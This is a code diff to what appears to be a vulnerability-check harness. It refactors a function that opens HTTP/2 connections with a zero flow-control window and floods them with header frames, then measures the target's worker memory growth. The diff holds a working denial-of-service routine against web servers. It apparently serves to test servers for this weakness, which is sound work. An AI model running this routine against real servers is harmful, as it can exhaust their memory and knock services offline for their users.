@@ -30,13 +30,12 @@ def _literal(name: int, value: bytes) -> bytes:
     return bytes([name, len(value)]) + value
 
 
-def _send_requests(client: socket.socket) -> None:
+def send_requests(client: socket.socket, streams: int = _STREAMS) -> None:
+    """Begin HTTP/2 with a window of 0, and request a long answer by each stream."""
     settings = _frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0))
     # :method GET and :scheme http are entries 2 and 6 of the static table, :authority and :path 1 and 4.
     block = b"\x82\x86" + _literal(1, b"node") + _literal(4, _PATH)
-    requests = (
-        _frame(_HEADERS, _END_STREAM_AND_HEADERS, 2 * number + 1, block) for number in range(_STREAMS)
-    )
+    requests = (_frame(_HEADERS, _END_STREAM_AND_HEADERS, 2 * number + 1, block) for number in range(streams))
     client.sendall(_PREFACE + settings + b"".join(requests))
 
 
@@ -52,7 +51,7 @@ def attack(target: Target) -> Outcome:
                 clients.append(stack.enter_context(target.connect()))
                 # A server without HTTP/2 answers 400 and closes.
                 with suppress(OSError):
-                    _send_requests(clients[-1])
+                    send_requests(clients[-1])
             most = max(most, target.web_memory())
     grown = most - before
     return Outcome(grown > _BOUND_BYTES, f"workers grew by {grown >> 20} MB")
